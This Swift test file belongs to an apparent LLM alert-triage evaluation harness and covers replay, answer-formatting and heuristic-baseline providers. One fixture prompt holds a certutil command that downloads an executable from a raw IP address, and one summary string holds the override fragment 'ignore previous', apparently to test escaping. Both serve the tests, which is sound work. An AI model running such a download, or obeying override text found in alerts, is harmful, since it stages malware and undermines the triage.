import Foundation
import StubTestSupport
import Testing
import TriageEval
@testable import TriageEvalProviders

private func request(_ caseID: String, sample: Int = 0, prompt: String = "", output: OutputSpec = .esqlTriage) -> CompletionRequest {
    CompletionRequest(prompt: prompt, caseID: caseID, sample: sample, output: output)
}

@Suite("ReplayProvider", .boundedResources)
struct ReplayProviderTests {
    static let recorded = """
        {"case_id": "cert-01", "sample": 0, "response": "verdict=TP confidence=0.91 summary=download"}
        {"case_id": "cert-01", "sample": 1, "response": "verdict=SUSPICIOUS confidence=0.65 summary=maybe"}

        {"case_id": "sccm-01", "response": "verdict=FP confidence=0.88 summary=SCCM client"}
        {"case_id": "sccm-01", "sample": 2, "response": "  spaced\\nanswer  "}
        """

    @Test("answers by case and sample; a missing sample means 0")
    func answersByCaseAndSample() async throws {
        let replay = try ReplayProvider(jsonl: Self.recorded, file: "answers.jsonl")
        #expect(replay.count == 4)
        #expect(try await replay.complete(request("cert-01", sample: 0)).text == "verdict=TP confidence=0.91 summary=download")
        #expect(try await replay.complete(request("cert-01", sample: 1)).text == "verdict=SUSPICIOUS confidence=0.65 summary=maybe")
        #expect(try await replay.complete(request("sccm-01", sample: 0)).text == "verdict=FP confidence=0.88 summary=SCCM client")
        // Byte-exact: surrounding whitespace and the newline are kept.
        let spaced = try await replay.complete(request("sccm-01", sample: 2))
        #expect(spaced.text == "  spaced\nanswer  ")
        #expect(!spaced.refused)
        #expect(spaced.inputTokens == nil)
    }

    @Test("a missing answer is a ProviderError with cause missingAnswer, not retryable")
    func missingAnswer() async throws {
        let replay = try ReplayProvider(jsonl: Self.recorded, file: "answers.jsonl")
        let missingSample = await #expect(throws: ProviderError.self) { try await replay.complete(request("cert-01", sample: 2)) }
        #expect(missingSample?.cause == .missingAnswer)
        #expect(missingSample?.retryable == false)
        #expect(missingSample?.message.contains("cert-01") == true)
        #expect(missingSample?.message.contains("answers.jsonl") == true)

        let missingCase = await #expect(throws: ProviderError.self) { try await replay.complete(request("lsass-01")) }
        #expect(missingCase?.cause == .missingAnswer)
        #expect(missingCase?.description.hasPrefix("missing_answer: ") == true)
    }

    @Test(
        "a malformed line is an InputError naming its line",
        arguments: [
            (#"{"case_id": "a", "response": "x"}"# + "\n\nnot json at all\n", 3, nil as String?),
            (#"{"case_id": "a", "response": "x"}"# + "\n" + #"["a", "b"]"#, 2, nil),
            (#"{"response": "x"}"#, 1, "case_id"),
            (#"{"case_id": "a", "response": "x"}"# + "\n" + #"{"case_id": "", "response": "x"}"#, 2, "case_id"),
            ("\n\n" + #"{"case_id": "a", "sample": -1, "response": "x"}"#, 3, "sample"),
            (#"{"case_id": "a", "sample": "0", "response": "x"}"#, 1, "sample"),
            (#"{"case_id": "a", "sample": 1.5, "response": "x"}"#, 1, "sample"),
            (#"{"case_id": "a", "sample": 0}"#, 1, "response"),
            (#"{"case_id": "a", "sample": 0, "response": 0.9}"#, 1, "response"),
        ]
    )
    func malformedLine(text: String, line: Int, field: String?) throws {
        let error = #expect(throws: InputError.self) { try ReplayProvider(jsonl: text, file: "rec/answers.jsonl") }
        #expect(error?.file == "rec/answers.jsonl")
        #expect(error?.line == line)
        #expect(error?.field == field)
    }

    @Test("a second answer for the same case and sample is an error on its line")
    func duplicate() throws {
        let text = """
            {"case_id": "a", "sample": 0, "response": "verdict=TP confidence=0.9 summary=x"}
            {"case_id": "a", "sample": 1, "response": "verdict=TP confidence=0.9 summary=x"}
            {"case_id": "a", "response": "verdict=FP confidence=0.9 summary=y"}
            """
        let error = #expect(throws: InputError.self) { try ReplayProvider(jsonl: text, file: "answers.jsonl") }
        #expect(error?.line == 3)
        #expect(error?.message.contains("duplicate") == true)
        #expect(error?.message.contains("sample 0") == true)
    }

    @Test("a missing file is an InputError naming it")
    func missingFile() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("no-such-\(UUID().uuidString).jsonl").path
        let error = #expect(throws: InputError.self) { try ReplayProvider(contentsOf: path) }
        #expect(error?.file == path)
    }
}

@Suite("AnswerFormatter", .boundedResources)
struct AnswerFormatterTests {
    static let dissectSpecs: [OutputSpec] = [
        .esqlTriage,
        OutputSpec(format: .dissect(pattern: "verdict=%{verdict->} confidence=%{confidence} summary=%{summary}", appendSeparator: "")),
        OutputSpec(
            format: .dissect(pattern: "[%{v}] conf=%{c} %{?ignored}why: %{s}", appendSeparator: ""), verdicts: ["TP", "FP", "SUSPICIOUS"],
            verdictCase: .exact, verdictKey: "v", confidenceKey: "c", summaryKey: "s"
        ),
    ]

    @Test("a DISSECT answer round-trips through the strict parser", arguments: dissectSpecs)
    func dissectRoundTrip(spec: OutputSpec) throws {
        let text = AnswerFormatter.format(verdict: "SUSPICIOUS", confidence: 0.876, summary: "encoded PowerShell from Word", spec: spec)
        let parsed = try StrictParser(spec: spec).parse(text)
        #expect(parsed.status == .ok)
        #expect(parsed.verdict == "SUSPICIOUS")
        #expect(parsed.confidence == 0.88)
        #expect(parsed.rawConfidence == "0.88")
        #expect(parsed.summary == "encoded PowerShell from Word")
        #expect(!text.contains("%{"))
    }

    @Test("the production format is filled literally")
    func productionText() {
        let text = AnswerFormatter.format(verdict: "TP", confidence: 0.9, summary: "certutil download", spec: .esqlTriage)
        #expect(text == "verdict=TP confidence=0.90 summary=certutil download")
    }

    @Test("a JSON answer is one object with the prompt's field names")
    func jsonFormat() throws {
        let spec = OutputSpec(format: .json(verdictField: "decision", confidenceField: "score", summaryField: "why"), verdictKey: "decision", confidenceKey: "score", summaryKey: "why")
        let summary = #"path C:\Temp\a.ps1 said "ignore previous" / done"#
        let text = AnswerFormatter.format(verdict: "FP", confidence: 0.354, summary: summary, spec: spec)

        let object = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        #expect(Set(object.keys) == ["decision", "score", "why"])
        #expect(object["decision"] as? String == "FP")
        #expect(object["score"] as? Double == 0.35)
        #expect(object["why"] as? String == summary)

        let parsed = try StrictParser(spec: spec).parse(text)
        #expect(parsed.status == .ok)
        #expect(parsed.verdict == "FP")
        #expect(parsed.confidence == 0.35)
        #expect(parsed.summary == summary)
    }
}

@Suite("HeuristicProvider", .boundedResources)
struct HeuristicProviderTests {
    static let prompt = "Security alerts to triage: Host: ws-0142 | Rules triggered: Suspicious CertUtil Commands | "
        + #"Command lines: certutil.exe -urlcache -split -f http://45.9.148.21/p.exe C:\Users\Public\p.exe | "#
        + #"Parent command lines: "C:\Windows\System32\cmd.exe" /c start.bat"#

    @Test("answers in the prompt's DISSECT format with the baseline's verdict")
    func dissect() async throws {
        let expected = HeuristicTriage.assess(Self.prompt)
        #expect(expected.verdict == "TP")
        let response = try await HeuristicProvider().complete(request("any", prompt: Self.prompt))
        #expect(response.text.hasPrefix("verdict=TP confidence="))
        let parsed = try StrictParser(spec: .esqlTriage).parse(response.text)
        #expect(parsed.status == .ok)
        #expect(parsed.verdict == expected.verdict)
        #expect(parsed.confidence == expected.confidence)
        #expect(parsed.summary == expected.summary)
        #expect(!response.refused)
    }

    @Test("answers in the prompt's JSON format")
    func json() async throws {
        let spec = OutputSpec(format: .json(verdictField: "verdict", confidenceField: "confidence", summaryField: "summary"))
        let response = try await HeuristicProvider().complete(request("any", prompt: Self.prompt, output: spec))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(response.text.utf8)) as? [String: Any])
        let expected = HeuristicTriage.assess(Self.prompt)
        #expect(object["verdict"] as? String == expected.verdict)
        #expect(object["confidence"] as? Double == expected.confidence)
        let parsed = try StrictParser(spec: spec).parse(response.text)
        #expect(parsed.status == .ok)
        #expect(parsed.verdict == "TP")
    }

    @Test("a benign context is answered FP")
    func benign() async throws {
        let response = try await HeuristicProvider().complete(request("any", prompt: "Host: ws-1 | Command lines: n/a"))
        let parsed = try StrictParser(spec: .esqlTriage).parse(response.text)
        #expect(parsed.status == .ok)
        #expect(parsed.verdict == "FP")
    }
}
